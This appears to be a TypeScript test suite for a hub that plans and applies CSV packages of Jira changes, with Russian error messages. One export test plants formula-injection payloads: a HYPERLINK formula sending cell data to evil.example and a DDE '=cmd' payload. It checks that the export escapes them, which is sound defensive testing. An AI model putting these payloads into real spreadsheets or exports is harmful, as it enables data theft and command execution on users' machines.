      expect(refused.detail).toContain('; links.csv: похоже, значения в файле разделены табуляцией');
      expect(refused.detail).not.toContain('нет известных столбцов');
    }
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('a very long bad cell is named with its first 100 characters, not echoed whole: the 422 stays short', async () => {
    const long = 'Ж'.repeat(20_000);
    const issues = `${HEADER}\n${long};;;;;;;;;;\nA-2;;;${long};${long};;;;;;`;
    const refused = (await send('plan', { issues, links: `Откуда;Тип;Куда\nA-2;блокирует;${long}` }).expect(422)).body;
    const shown = `«${'Ж'.repeat(100)}… [обрезано: ещё 19900 символов]»`;
    expect(refused.errors.map((e: { field: string; detail: string }) => [e.field, e.detail.includes(shown), e.detail.includes('Ж'.repeat(101))])).toEqual([
      ['issues.csv:2:Ключ', true, false],
      ['issues.csv:3:Родитель', true, false],
      ['issues.csv:3:Срок', true, false],
      ['links.csv:2', true, false],
    ]);
    expect(refused.detail.length).toBeLessThan(2_000);
  });

  it('a new row whose summary is that of an issue another row names would be that issue twice: plan and apply → 422 naming both rows, nothing written', async () => {
    // The agent would take A-2 «Отчёт» for new:9 and set both rows' due dates on it; every later plan and the drift would then refuse the package.
    const issues = `${HEADER}\nA-2;;;;2027-05-05;;;;;;\nnew:9;Task;Отчёт;;2027-06-06;;;;;;`;
    const detail =
      'issues.csv, строка 3, столбец «Тема»: new:9 не создастся: в зеркале уже есть задача с темой «Отчёт» — A-2, агент возьмёт её и изменит по этой строке, а задача A-2 уже есть в строке 2: одна строка на задачу — дайте строке new:9 другую тему или уберите её';
    expect((await send('plan', { issues }).expect(422)).body).toMatchObject({ error: 'validation_failed', detail });
    const tables = ['package', 'batch', 'command'];
    const before = await rowCounts(hub, tables);
    expect((await send('apply', { issues }).expect(422)).body).toMatchObject({ error: 'validation_failed', detail });
    expect(await rowCounts(hub, tables)).toEqual(before);
    // Without the row of A-2, the new row is only named: the agent changes A-2 by it, as the finding says.
    const alone = (await send('plan', { issues: `${HEADER}\nnew:9;Task;Отчёт;;2027-06-06;;;;;;` }).expect(200)).body;
    expect(alone.findings.map((f: { code: string }) => f.code)).toEqual(['summary_exists']);
  });

  it('a plan over the batch cap (1,000 commands) is answered whole with what to do; apply refuses it with the same words, nothing written', async () => {
    const rows = Array.from({ length: 1001 }, (_, i) => `new:${i + 1};Task;Задача ${i + 1};;;;;;;;`).join('\n');
    const files = { issues: `${HEADER}\n${rows}`, links: 'Откуда;Тип;Куда\nA-2;блокирует;A-3', notes: 'Ключ;Комментарий (внутр.)\nA-2;заметка' };
    const plan = (await send('plan', files).expect(200)).body;
    expect(plan.over_cap).toEqual({ commands: 1001, max_commands: 1000, parts: 2, listed: 1001 });
    expect(plan.commands).toHaveLength(1001);
    expect(plan.dry_run).toBeNull(); // no batch to dry-run: the verdicts come with each part's plan
    expect(plan.commands.every((c: { verdict: unknown }) => c.verdict === null)).toBe(true);
    expect(plan.findings).toEqual([expect.objectContaining({ file: 'links.csv', row: 2, code: 'reversed_link' })]);
    const words = `план пакета — 1001 команда, а в одном пакете команд их может быть не больше 1000: применить его одним пакетом команд нельзя. Разделите строки файлов пакета хотя бы на 2 части`;
    expect(plan.text).toContain(`План${words.slice(4)}`);
    expect(plan.text).toContain('Сухой прогон и проверку по каталогу Jira хаб делает для пакета команд, который можно отправить, — в плане каждой части.');
    expect(plan.text).not.toContain('Показаны первые');
    expect(planText(plan)).not.toContain('После отправки');
    const tables = ['package', 'batch', 'command', 'issue_note'];
    const before = await rowCounts(hub, tables);
    const refused = (await send('apply', files).expect(422)).body;
    expect(refused).toEqual({ error: 'validation_failed', detail: expect.stringContaining(words) });
    expect(refused.detail).toContain('новые задачи предыдущей части она найдёт по их временным ключам');
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('a package of more new rows than one statement may bind (SQLite: 32,766 values) is planned, never a 500; its answer lists 5,000 commands and says how many there are', async () => {
    const rows = Array.from({ length: 33_000 }, (_, i) => `new:${i + 1};Task;Задача ${i + 1};;;;;;;;`).join('\n');
    const res = await send('plan', { issues: `${HEADER}\n${rows}` }).expect(200);
    expect(res.body.over_cap).toEqual({ commands: 33_000, max_commands: 1000, parts: 33, listed: 5000 });
    expect(res.body.commands).toHaveLength(5000);
    expect(res.body.text).toMatch(/^Изменений: 33000 \(новые задачи: 33000\)\. План пакета — 33000 команд, .* хотя бы на 33 части .* Показаны первые 5000 команд из 33000\.$/);
    expect(res.text.length).toBeLessThan(3_000_000);
  });

  it('packages applied again from the same one are one line: the issue one of them created is the others\' too (decision 1422)', async () => {
    const runAll = async (created: string | null, mirror: Record<string, unknown>[]) => {
      for (let c = (await agent.claim()).command; c; c = (await agent.claim()).command) {
        if (c.type === 'ensure_issue' && created === null) await agent.report(c.id, { status: 'failed', error: 'HTTP 400' }).expect(200);
        else await agent.done(c.id, c.type === 'refresh' ? refreshResult([...MIRROR, ...mirror], LINKS) : c.type === 'ensure_issue' ? { key: created, created: true } : {});
      }
    };
    const issues = `${HEADER}\nnew:1;Task;Отчёт отдела В;;2026-12-20;;;;;;`;
    const first = (await send('apply', { issues }, { name: 'Отдел В' }).expect(200)).body;
    await runAll(null, []); // its ensure_issue fails
    const second = (await hub.http.post(`/packages/${first.package.id}/apply`).expect(200)).body;
    expect(second.batch.commands[0]).toMatchObject({ type: 'ensure_issue', params: { temp_key: 'new:1' } });
    const mine = { key: 'A-20', summary: 'Отчёт отдела В', duedate: '2026-12-20' };
    await runAll('A-20', [mine]);
    // The first package's drift and a third apply from it (a sibling of the second) mean A-20.
    expect((await hub.http.get(`/packages/${first.package.id}/drift`).expect(200)).body).toMatchObject({ matches: true, fields: [] });
    const back = (await hub.http.post(`/packages/${first.package.id}/plan`).expect(200)).body;
    expect(back).toMatchObject({ empty: true, commands: [] });
  });

  it.each([
    ['status = done', ['A-3']],
    ['status = "IN PROGRESS" AND sprint = "спринт 1"', ['A-2']],
    ['issuetype = epic', ['A-1']],
  ])('export matches status, sprint and type in any letter case, as JQL and the plan do: %s', async (jql, keys) => {
    const out = await hub.app.get(ExportService).export(jql);
    expect(out.files['issues.csv'].split('\r\n').slice(1).filter(Boolean).map((line) => line.split(';')[0])).toEqual(keys);
  });

  it('export by project takes that project\'s keys only: `_` and `%` in a key are letters, not LIKE\'s wildcards', async () => {
    const others = [{ key: 'A_B-1', summary: 'Подчёркивание' }, { key: 'AXB-1', summary: 'Другой проект' }, { key: 'A%-1', summary: 'Процент' }, { key: 'AB-1', summary: 'Ещё проект' }];
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A_B-1', 'AXB-1', 'AB-1'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult(others.filter((i) => i.key !== 'A%-1')));
    const keysOf = async (jql: string) => (await hub.app.get(ExportService).export(jql)).files['issues.csv'].split('\r\n').slice(1).filter(Boolean).map((line) => line.split(';')[0]);
    expect(await keysOf('project = A_B')).toEqual(['A_B-1']);
    expect(await keysOf('project = A')).toEqual(['A-1', 'A-2', 'A-3']);
    expect(await keysOf('project = "A%"')).toEqual([]);
  });

  it('export writes no cell a spreadsheet would run as a formula, and the exported package still reads back as the mirror: an empty plan (decision 1500)', async () => {
    // Anyone who edits an issue in Jira sets its summary; an assistant writes notes.
    const formula = '=HYPERLINK("https://evil.example/?d="&C3;"Открыть")';
    const planted = [
      { key: 'A-4', summary: formula, labels: ['+1', '@team'], status: 'To Do' },
      { key: 'A-5', summary: "'=1+1 — так пишут формулу", status: 'To Do' },
      { key: 'A-6', summary: '-5% бюджета', status: 'To Do' },
    ];
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: planted.map((i) => i.key) } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult(planted));
    await hub.http.put('/notes/A-4').send({ fact_status: '@всем', comment: '=cmd|\' /C calc\'!A0' }).expect(200);
    const out = await hub.app.get(ExportService).export('key in (A-4, A-5, A-6)');
    const rows = out.files['issues.csv'].split('\r\n').slice(1, 4);
    expect(rows.map((line) => line.split(';').slice(0, 6))).toEqual([
      ['A-4', 'Task', '"\'=HYPERLINK(""https://evil.example/?d=""&C3', '""Открыть"")"', '', ''],
      ['A-5', 'Task', "''=1+1 — так пишут формулу", '', '', ''],
      ['A-6', 'Task', "'-5% бюджета", '', '', ''],
    ]);
    expect(rows[0].split(';')[6]).toBe("'+1 @team");
    expect(out.files['notes.csv'].split('\r\n')[1]).toBe("A-4;'@всем;'=cmd|' /C calc'!A0");
    // Every cell a spreadsheet sees starts with neither =, +, -, @ nor a tab.
    for (const file of Object.values(out.files)) for (const cell of file.split(/[;\r\n]+/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t]/);
    const files = { issues: out.files['issues.csv'], links: out.files['links.csv'], notes: out.files['notes.csv'] };
    expect((await send('plan', files).expect(200)).body).toMatchObject({ empty: true, commands: [] });
    const applied = (await send('apply', files).expect(200)).body;
    expect(applied).toMatchObject({ batch: null });
    expect((await hub.http.get('/notes/A-4').expect(200)).body).toMatchObject({ fact_status: '@всем', comment: '=cmd|\' /C calc\'!A0' });
  });

  it('drift of a package whose batch has not run says so instead of «Jira отошла»: waiting for approval, then rejected', async () => {
    const issues = `${HEADER}\nA-2;;;;2026-12-24;;;;;;`;
    const applied = (await send('apply', { issues }, {}, { 'X-Hub-Source': 'assistant' }).expect(200)).body;
    expect(applied.batch.status).toBe('awaiting_approval');
    const waiting = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(waiting).toMatchObject({ matches: false, batch_status: 'awaiting_approval' });
    expect(waiting.text.split('\n')[0]).toBe(`Пакет #${applied.package.id} «${applied.package.name}» ещё не применён: его пакет команд #${applied.batch.id} ждёт одобрения. До тех пор Jira отличается от него: полей 1, связей 0.`);
    await hub.http.post(`/batches/${applied.batch.id}/reject`).send({ reason: 'не сейчас' }).expect(200);
    const rejected = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(rejected.text.split('\n')[0]).toContain(`его пакет команд #${applied.batch.id} отменён или отклонён`);
  });

  it("a very long assignee, board or link type is quoted in the dry run's findings by its first 100 characters, not whole; apply → 422, nothing written", async () => {
    await reportCatalogue(hub, { ...CATALOGUE, project_key: 'A' });
    const long = 'Ж'.repeat(20_000);
    const files = { issues: `${HEADER}\nA-2;;;;;;${long};;;Спринт 2;${long}`, links: `Откуда;Тип;Куда\nA-3;${long};A-2` };
    const plan = (await send('plan', files).expect(200)).body;
    const shown = `«${'Ж'.repeat(100)}… [обрезано: ещё 19900 символов]»`;
    const findings = plan.dry_run.findings as { param: string; detail: string; suggestion?: string }[];
    expect(findings.map((f) => [f.param, f.detail.includes(shown), `${f.detail} ${f.suggestion ?? ''}`.includes('Ж'.repeat(101))])).toEqual([
      ['assignee', true, false],
      ['board', true, false],
      ['link_type', true, false],
    ]);
    expect(plan.dry_run.text).not.toContain('Ж'.repeat(101));
    const tables = ['package', 'batch', 'command'];
    const before = await rowCounts(hub, tables);
    const refused = (await send('apply', files).expect(422)).body;
    expect(refused.detail).toContain(shown);
    expect(refused.detail.length).toBeLessThan(5_000);
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('drift compares with the mirror only: a package value Jira no longer offers (its sprint closed since) is drift, not a 422', async () => {
    const issues = `${HEADER}\nA-2;;;;;;;;;Спринт 1;`;
    const applied = (await send('apply', { issues }).expect(200)).body;
    expect(applied.batch).toBeNull(); // Jira already matched
    // Спринт 1 closes (the project's catalogue says so); A-2 moves on to Спринт 2
    await reportCatalogue(hub, { ...CATALOGUE, project_key: 'A' });
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-2'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ ...MIRROR[1], sprint: 'Спринт 2' }]));
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ matches: false, fields: [{ key: 'A-2', jira_key: 'A-2', row: 2, field: 'sprint', wanted: 'Спринт 1', actual: 'Спринт 2' }] });
    // planning it back is still refused: no command may set a sprint Jira does not offer
    const back = await hub.http.post(`/packages/${applied.package.id}/plan`).expect(422);
    expect(back.body.detail).toContain('спринт (активный или будущий) «Спринт 1» Jira не знает');
  });

  it('the drift\'s text shows values as the plan does: «…» and «пусто» for an empty value, not JSON\'s quotes and null', async () => {
    const applied = (await send('apply', { issues: `${HEADER}\nA-2;;;;;;;;In Progress;Спринт 1;` }).expect(200)).body;
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['A-2'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ ...MIRROR[1], status: 'To Do', sprint: null }]));
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift.text.split('\n').slice(1)).toEqual([
      '  A-2 status: в пакете «In Progress», в Jira «To Do» (issues.csv, строка 2)',
      '  A-2 sprint: в пакете «Спринт 1», в Jira бэклог (issues.csv, строка 2)',
    ]);
  });

  it('a bad file → 422 naming file, row and column in Russian; nothing written', async () => {
    const before = await batchCount();
    const res = await send('apply', { issues: `${HEADER}\nA-2;;;;31.12.2026;;;;;;` }).expect(422);
    expect(res.body).toMatchObject({ error: 'validation_failed', detail: 'issues.csv, строка 2, столбец «Срок»: «31.12.2026» — не дата: нужна дата вида 2026-12-31 (ГГГГ-ММ-ДД)' });
    const cycle = await send('plan', { issues: `${HEADER}\nnew:1;Task;Один;new:2;;;;;;;\nnew:2;Task;Два;new:1;;;;;;;` }).expect(422);
    expect(cycle.body.detail).toBe('issues.csv, строка 2, столбец «Родитель»: цикл родителей: new:1 → new:2 → new:1');
    const undefinedKey = await send('apply', { links: 'Откуда;Тип;Куда\nnew:9;блокирует;A-2' }).expect(422);
    expect(undefinedKey.body.detail).toContain('links.csv, строка 2, столбец «Откуда»: временный ключ new:9 не определён');
    const notFile = await hub.http.post('/packages/plan').send({ issues: 'x' }).expect(422);
    expect(notFile.body.detail).toBe(
      'issues, links и notes нужно прислать файлами в multipart/form-data (например, curl -F "issues=@issues.csv"), а не текстовыми полями или JSON; ничего не записано',
    );
    // SPEC 11.1's 10 MB is the body's: the envelope counts, and the text says so (not «imported»: this is no import).
    for (const route of ['plan', 'apply'] as const) {
      const big = await send(route, { issues: `${HEADER}\nA-2;;${'x'.repeat(10 * 1024 * 1024 - 100)};;;;;;;;` }).expect(413);
      expect(big.body).toEqual({
        error: 'payload_too_large',
        detail: 'тело запроса больше 10 МБ: файлы issues, links и notes вместе с разметкой multipart/form-data должны занимать не больше 10 МБ; ничего не записано',
      });
    }
    expect((await hub.http.post('/packages/apply').expect(422)).body.detail).toBe('применять нечего: пришлите хотя бы один из файлов issues, links, notes');
    // A misspelled text field is named, not ignored (the package would be applied without its name).
    const misspelled = await send('apply', { issues: `${HEADER}\nA-2;;;;2026-12-31;;;;;;` }, { nmae: 'Спринт 2' }).expect(422);
    expect(misspelled.body).toMatchObject({ detail: 'неизвестное поле «nmae»: файлы — issues, links и notes; текстовые поля: name; ничего не записано', errors: [{ field: 'nmae', detail: 'неизвестное поле' }] });
    // A text field sent twice: said so, not «нужна строка» of the list multer made of it.
    const twice = await hub.http.post('/packages/apply').attach('issues', Buffer.from(`${HEADER}\nA-2;;;;2026-12-31;;;;;;`), 'issues.csv').field('name', 'a').field('name', 'b').expect(422);
    expect(twice.body).toMatchObject({ errors: [{ field: 'name', detail: 'поле формы указано несколько раз: нужно одно значение' }] });
    expect(await batchCount()).toBe(before);
    expect((await hub.http.get('/packages').expect(200)).body).toEqual([]);
    await hub.http.get('/packages/99/drift').expect(404);
  });

  it('a temp key the hub has created and its Jira key in two rows → 422 naming both rows, as a key written twice; nothing planned or stored', async () => {
    await hub.http.post('/batches').send({ title: 'эпик', commands: [{ type: 'ensure_issue', params: { temp_key: 'new:1', issue_type: 'Epic', summary: 'Годовой отчёт (эпик)' } }] }).expect(201);
    const create = (await agent.claim()).command;
    expect(create.type).toBe('ensure_issue');
    await agent.done(create.id, { key: 'A-3', created: true });
    const tables = ['package', 'batch', 'command'];
    const before = await rowCounts(hub, tables);
    const issues = 'Ключ;Тип;Тема;Приоритет\nnew:1;Epic;Годовой отчёт (эпик);High\nA-3;;;Low';
    const problem = 'задача A-3 уже есть в строке 2 — под временным ключом new:1, который хаб уже создал как A-3: одна строка на задачу';
    for (const route of ['plan', 'apply'] as const) {
      const res = await send(route, { issues }).expect(422);
      expect(res.body).toEqual({ error: 'validation_failed', detail: `issues.csv, строка 3, столбец «Ключ»: ${problem}`, errors: [{ field: 'issues.csv:3:Ключ', detail: problem }] });
    }
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('a summary within 255 characters but over Jira\'s 255 UTF-16 units (an emoji counts twice) → 422 for a new issue and an existing one, before the dry run; nothing written', async () => {
    const emoji = '\u{1F600}'.repeat(130); // 130 characters, 260 units as Jira counts them
    const issues = `${HEADER}\nnew:701;Task;${emoji};;;;;;;;\nA-2;;${emoji};;;;;;;;`;
    const before = await batchCount();
    for (const route of ['plan', 'apply'] as const) {
      const res = await send(route, { issues }).expect(422);
      expect(res.body).toMatchObject({ error: 'validation_failed' });
      expect(res.body.errors).toEqual([
        { field: 'issues.csv:2:Тема', detail: 'тема длиннее 255 знаков, как их считает Jira (эмодзи — за два): 260' },
        { field: 'issues.csv:3:Тема', detail: 'тема длиннее 255 знаков, как их считает Jira (эмодзи — за два): 260' },
      ]);
      expect(res.body.detail).toContain('issues.csv, строка 2, столбец «Тема»: тема длиннее 255 знаков');
    }
    expect(await batchCount()).toBe(before);
    expect((await hub.http.get('/packages').expect(200)).body).toEqual([]);
    // 255 units with emoji in them pass: the plan creates the issue and sets the summary
    const fits = `${'\u{1F600}'.repeat(127)}!`;
    const plan = (await send('plan', { issues: `${HEADER}\nnew:701;Task;${fits};;;;;;;;\nA-2;;${fits};;;;;;;;` }).expect(200)).body;
    expect(plan.commands.map((c: { type: string; params: { summary?: string } }) => [c.type, c.params.summary])).toEqual([
      ['ensure_issue', fits],
      ['ensure_fields', fits],
    ]);
  });

  it('every bad row and cell of every file in one 422, the first error\'s text first; a long list is cut saying how many more; nothing written', async () => {
    const tables = ['package', 'batch', 'command', 'issue_note'];
    const before = await rowCounts(hub, tables);
    const files = {
      issues: `${HEADER}\nA-2;;;;31.12.2026;;;;;;\nnew:1;;${'т'.repeat(256)};;2026-13-01;;;;;;AURORA board\nA-2;;;;;;;;;;`,
      links: 'Откуда;Тип;Куда\nA-2;блокирует;A 3\nx;;A-2',
      notes: 'key,comment\nabc,ок',
    };
    const expected = [
      { field: 'issues.csv:2:Срок', detail: '«31.12.2026» — не дата: нужна дата вида 2026-12-31 (ГГГГ-ММ-ДД)' },
      { field: 'issues.csv:3:Тема', detail: 'тема длиннее 255 символов (256)' },
      { field: 'issues.csv:3:Срок', detail: '«2026-13-01» — не дата: нужна дата вида 2026-12-31 (ГГГГ-ММ-ДД)' },
      { field: 'issues.csv:3:Тип', detail: 'новой задаче new:1 нужен тип (Task, Story, Epic, Sub-task…)' },
      { field: 'issues.csv:3:Доска', detail: 'доска указана без спринта: она нужна только чтобы выбрать спринт' },
      { field: 'issues.csv:4:Ключ', detail: 'ключ A-2 уже есть в строке 2: одна строка на задачу' },
      { field: 'links.csv:2', detail: 'конец связи «A 3» — не ключ Jira (ABC-123) и не временный ключ (new:N)' },
      { field: 'links.csv:3', detail: 'начало связи «x» — не ключ Jira (ABC-123) и не временный ключ (new:N)' },
      { field: 'links.csv:3', detail: 'пустой тип связи' },
      { field: 'notes.csv:2', detail: 'ключ «abc» — не ключ Jira (ABC-123) и не временный ключ (new:N)' },
    ];
    for (const route of ['plan', 'apply'] as const) {
      const res = await send(route, files).expect(422);
      expect(res.body.error).toBe('validation_failed');
      expect(res.body.errors).toEqual(expected);
      // The first error's text as it was alone, then the others in file order, each naming file, row and column.
      const message = ({ field, detail }: { field: string; detail: string }) => {
        const [file, row, column] = field.split(':');
        return `${file}, строка ${row}${column ? `, столбец «${column}»` : ''}: ${detail}`;
      };
      expect(res.body.detail).toBe(expected.map(message).join('; '));
      expect(res.body.detail.startsWith('issues.csv, строка 2, столбец «Срок»: «31.12.2026» — не дата')).toBe(true);
    }
    // Rows that refer to what is not there are found while planning, each one too.
    const unresolved = await send('plan', { issues: `${HEADER}\nA-2;;;new:7;;;;;;;`, links: 'Откуда;Тип;Куда\nnew:8;блокирует;A-2\nA-2;блокирует;new:9' }).expect(422);
    expect(unresolved.body.errors.map((e: { field: string }) => e.field)).toEqual(['issues.csv:2:Родитель', 'links.csv:2:Откуда', 'links.csv:3:Куда']);
    // 60 bad rows: the first 50 named, and how many more there are.
    const many = await send('apply', { notes: `key\n${Array.from({ length: 60 }, (_, i) => `bad${i}`).join('\n')}` }).expect(422);
    expect(many.body.errors).toHaveLength(50);
    expect(many.body.errors.at(-1)).toEqual({ field: 'notes.csv:51', detail: expect.stringContaining('bad49') });
    expect(many.body.detail).toMatch(/^notes\.csv, строка 2: ключ «bad0» .*; …и ещё ошибок: 10 \(показаны первые 50\) — исправьте эти и проверьте пакет снова$/);
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('U+0000 in a cell → 422 naming file, row and column, as the JSON routes refuse it; nothing stored or queued, on both engines', async () => {
    const tables = ['package', 'batch', 'command', 'issue_note'];
    const before = await rowCounts(hub, tables);
    const issues = 'Ключ;Тип;Тема\nnew:1;Task;a\u0000b\n';
    const notes = 'key,fact_status,comment\nA-7,a\u0000b,c\n';
    const NUL = 'текст содержит нулевой символ (U+0000, \\u0000) — такой текст нельзя сохранить; уберите его';
    for (const route of ['plan', 'apply'] as const) {
      const res = await send(route, { issues }).expect(422);
      expect(res.body).toEqual({
        error: 'validation_failed',
        detail: `issues.csv, строка 2, столбец «Тема»: ${NUL}`,
        errors: [{ field: 'issues.csv:2:Тема', detail: NUL }],
      });
      expect((await send(route, { notes }).expect(422)).body).toMatchObject({ errors: [{ field: 'notes.csv:2:fact_status', detail: NUL }] });
    }
    // In a column the readers do not use, or in the header: the package table would keep it all the same.
    expect((await send('apply', { notes: 'key,extra\nA-7,x\u0000\n' }).expect(422)).body.errors).toEqual([{ field: 'notes.csv:2:extra', detail: NUL }]);
    expect((await send('apply', { notes: 'key,ex\u0000tra\nA-7,x\n' }).expect(422)).body.errors).toEqual([{ field: 'notes.csv:1', detail: NUL }]);
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('a file not in UTF-8 → 422 with the same hint as POST /import; nothing stored', async () => {
    // «Ключ;Тема» / «new:1;ок» in Windows-1251
    const cp1251 = Buffer.from([0xca, 0xeb, 0xfe, 0xf7, 0x3b, 0xd2, 0xe5, 0xec, 0xe0, 0x0a, 0x6e, 0x65, 0x77, 0x3a, 0x31, 0x3b, 0xee, 0xea, 0x0a]);
    const res = await hub.http.post('/packages/apply').attach('issues', cp1251, 'issues.csv').expect(422);
    expect(res.body).toEqual({
      error: 'validation_failed',
      detail: 'issues.csv: файл не в кодировке UTF-8 (похоже, Windows-1251); сохраните его как «CSV UTF-8»',
      errors: [{ field: 'issues.csv', detail: 'файл не в кодировке UTF-8 (похоже, Windows-1251); сохраните его как «CSV UTF-8»' }],
    });
    expect((await hub.http.get('/packages').expect(200)).body).toEqual([]);
  });

  it('MCP: plan_package, apply_package (waits for approval) and package_drift', async () => {
    const mcp = await connect('http', hub.url);
    try {
      const issues_csv = `${HEADER}\nA-2;;;;2026-12-15;;;;;;`;
      const plan = await mcp.client.callTool({ name: 'plan_package', arguments: { issues_csv } });
      expect(plan.isError).toBeFalsy();
      expect((plan.content as { text: string }[])[0].text).toContain('Изменений: 1 (поля: 1)');
      const applied = await mcp.client.callTool({ name: 'apply_package', arguments: { issues_csv, name: 'Из чата' } });
      const data = applied.structuredContent as { package: { id: number }; batch: { status: string; source: string } };
      expect(data.batch).toMatchObject({ status: 'awaiting_approval', source: 'assistant' });
      const drift = await mcp.client.callTool({ name: 'package_drift', arguments: { id: data.package.id } });
      expect((drift.content as { text: string }[])[0].text).toContain('A-2 duedate');
      const bad = await mcp.client.callTool({ name: 'plan_package', arguments: { issues_csv: `${HEADER}\nnew:1;Task;;;;;;;;;` } });
      expect(bad.isError).toBe(true);
      expect((bad.content as { text: string }[])[0].text).toBe('issues.csv, строка 2, столбец «Тема»: новой задаче new:1 нужна тема');
    } finally {
      await mcp.close();
    }
  });
});

describe('a package the catalogue refuses (SPEC 16.2, 18)', () => {
  let hub: TestHub;
  beforeEach(async () => {
    hub = await startHub();
    await reportCatalogue(hub);
    const agent = agentOf(hub);
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['AURORA-1', 'AURORA-2'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ key: 'AURORA-1' }, { key: 'AURORA-2' }]));
  });
  afterEach(() => hub.close());

  const issues = `${HEADER}\nAURORA-1;;;;2026-12-20;;;;;;`;
  const links = 'Откуда;Тип;Куда\nAURORA-1;связанные;AURORA-2\nAURORA-1;зависит;AURORA-2';
  const send = (route: 'plan' | 'apply') => hub.http.post(`/packages/${route}`).attach('issues', Buffer.from(issues), 'issues.csv').attach('links', Buffer.from(links), 'links.csv');

  it('the plan shows each finding under its command and says apply would be refused, not that the batch would be queued', async () => {
    const plan = (await send('plan').expect(200)).body;
    expect(plan.dry_run.ok).toBe(false);
    expect(plan.text).toBe('Изменений: 3 (поля: 1, связи: 2). Применить пакет нельзя: проверка по каталогу Jira нашла ошибки (1, отмечены ✗) — хаб откажет (422), пока их не исправить в файлах пакета.');
    const lines = planText(plan).split('\n');
    const link = lines.findIndex((l) => l.startsWith('  3. ensure_link') && l.includes('links.csv, строка 3'));
    expect(lines[link]).toMatch(/ \[Jira откажет: ошибок 1, см\. ниже\]$/);
    expect(lines[link + 1]).toMatch(/^ {5}✗ link_type: типа связи «зависит» в Jira нет; есть: Blocks .* → одно из: Blocks, Relates, Duplicate$/);
    expect(lines.join('\n')).not.toContain('см. замечания проверки'); // the dry run's pointer to the findings the lines show anyway
    expect(lines.at(-1)).toContain('Применить пакет нельзя');
    expect(lines.join('\n')).not.toContain('встанет в очередь');
  });

  it('a new epic where the create screen requires «Epic Name» (Data Center): its summary is the name, and the plan passes the checks (decision 1424)', async () => {
    const epic = `${HEADER}\nnew:1;Epic;Годовой отчёт;;;;;;;;\nnew:2;Task;Собрать данные;new:1;;;;;;;`;
    const plan = (await hub.http.post('/packages/plan').attach('issues', Buffer.from(epic), 'issues.csv').expect(200)).body;
    expect(plan.commands.filter((c: { type: string }) => c.type === 'ensure_issue').map((c: { params: object }) => c.params)).toEqual([
      { temp_key: 'new:1', issue_type: 'Epic', summary: 'Годовой отчёт', fields: { customfield_10011: 'Годовой отчёт' } },
      { temp_key: 'new:2', issue_type: 'Task', summary: 'Собрать данные', parent: 'new:1' },
    ]);
    expect(plan.dry_run).toMatchObject({ ok: true, findings: [] });
  });

  it('a new row\'s type in another letter case is sent as Jira writes it, so the checks pass and apply queues it (as `high` goes as `High`)', async () => {
    const issues = `${HEADER}\nnew:1;epic;Годовой отчёт;;;;;;;;\nnew:2;  TASK ;Собрать данные;new:1;;;;;;;`;
    const attach = (route: 'plan' | 'apply') => hub.http.post(`/packages/${route}`).attach('issues', Buffer.from(issues), 'issues.csv');
    const plan = (await attach('plan').expect(200)).body;
    expect(plan.commands.filter((c: { type: string }) => c.type === 'ensure_issue').map((c: { params: { issue_type: string } }) => c.params.issue_type)).toEqual(['Epic', 'Task']);
    expect(plan.dry_run).toMatchObject({ ok: true, findings: [] });
    const applied = (await attach('apply').expect(200)).body;
    expect(applied.batch.commands.filter((c: { type: string }) => c.type === 'ensure_issue').map((c: { params: { issue_type: string } }) => c.params.issue_type)).toEqual(['Epic', 'Task']);
  });

  it('a sub-task asked into a sprint, an existing one or a new one: the plan shows the finding under its ensure_sprint, apply is refused naming its row; nothing stored', async () => {
    const agent = agentOf(hub);
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: ['AURORA-3'] } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult([{ key: 'AURORA-3', issue_type: 'Sub-task', fields: { parent: 'AURORA-1' } }]));
    const attach = (route: 'plan' | 'apply') => hub.http.post(`/packages/${route}`).attach('issues', Buffer.from('Ключ;Тип;Тема;Родитель;Спринт\nAURORA-3;;;;Спринт 2\nnew:1;Sub-task;Сверка;AURORA-1;Спринт 2'), 'issues.csv');
    const plan = (await attach('plan').expect(200)).body;
    expect(plan.commands.map((c: { type: string; params: object }) => [c.type, c.params])).toEqual([
      ['ensure_issue', { temp_key: 'new:1', issue_type: 'Sub-task', summary: 'Сверка', parent: 'AURORA-1' }],
      ['ensure_sprint', { key: 'AURORA-3', sprint: 'Спринт 2' }],
      ['ensure_sprint', { key: 'new:1', sprint: 'Спринт 2' }],
    ]);
    expect(plan.dry_run.ok).toBe(false);
    expect(plan.dry_run.findings.map((f: { seq: number; param: string; code: string }) => [f.seq, f.param, f.code])).toEqual([
      [2, 'key', 'subtask_sprint'],
      [3, 'key', 'subtask_sprint'],
    ]);
    expect(plan.dry_run.commands.map((c: { check: string }) => c.check).slice(0, 3)).toEqual(['will_change', 'will_fail', 'will_fail']);
    const lines = planText(plan).split('\n');
    expect(lines[lines.findIndex((l) => l.startsWith('  2. ensure_sprint')) + 1]).toBe(
      '     ✗ key: AURORA-3 — подзадача («Sub-task»): Jira не переносит подзадачи в спринт отдельно, они идут в спринт вместе с родительской задачей AURORA-1 → перенесите в спринт родительскую задачу AURORA-1 — подзадача перейдёт вместе с ней',
    );
    const tables = ['package', 'batch', 'command'];
